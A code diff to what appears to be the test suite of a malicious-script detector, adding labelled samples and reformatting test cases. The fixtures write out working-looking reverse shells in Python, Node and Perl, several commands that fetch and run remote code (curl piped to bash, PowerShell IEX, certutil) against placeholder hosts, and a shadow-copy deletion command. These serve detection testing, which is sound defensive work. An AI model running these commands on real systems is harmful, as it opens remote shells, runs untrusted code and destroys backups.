@@ -97,6 +97,13 @@ SAMPLES: dict[str, bytes] = {
         "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)", 's.connect(("192.0.2.1", 4444))',
         "os.dup2(s.fileno(), 0)", "os.dup2(s.fileno(), 1)", 'subprocess.call(["/bin/sh", "-i"])',
     ),
+    "python_runs_fetched_code": text("exec(requests.get('http://e.example/s').text)"),
+    "node_reverse_shell": text(
+        "const tls = require('tls'), s = require('child_process').spawn('cmd.exe');",
+        "const c = tls.connect(443, 'e.example', () => { c.pipe(s.stdin); s.stdout.pipe(c) });",
+    ),
+    "powershell_fetches_into_expression": text("Invoke-Expression (Invoke-WebRequest 'http://e.example/a.ps1')"),
+    "internet_shortcut_to_a_program": text("[InternetShortcut]", "URL=\\\\192.0.2.1\\share\\a.exe"),
     "shadow_copies_deleted": text("vssadmin.exe Delete Shadows /All /Quiet"),
     "base64_of_a_program": base64.b64encode(
         b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + bytes(0x3D) + STUB[0x4E:] + noise(99)
@@ -176,7 +183,7 @@ def test_what_powershell_saves_and_starts_is_seen(module: Guest, lines: tuple[st
         (("certutil.exe /urlcache /f http://e.example/a b",), {"windows_tool_loads_from_network"}),
         (("curl -s http://e.example/a | sudo -E bash -",), {"network_into_a_shell"}),
         (("exec(urllib.request.urlopen('http://e.example/s').read())",), {"python_runs_fetched_code"}),
-        (("powershell -w hidden -c \"IEX(iwr http://e.example/a)\"",), {"powershell_fetches_into_expression"}),
+        (('powershell -w hidden -c "IEX(iwr http://e.example/a)"',), {"powershell_fetches_into_expression"}),
         (("irm https://e.example/a | iex",), {"powershell_fetches_into_expression"}),
         (
             (
@@ -187,8 +194,8 @@ def test_what_powershell_saves_and_starts_is_seen(module: Guest, lines: tuple[st
         ),
         (
             (
-                "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
-                'if(connect(S,sockaddr_in(1,inet_aton("192.0.2.1")))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
+                """perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(1,"""
+                + """inet_aton("192.0.2.1")))){open(STDIN,">&S");exec("/bin/sh -i");};'""",
             ),
             {"reverse_shell_one_liner"},
         ),
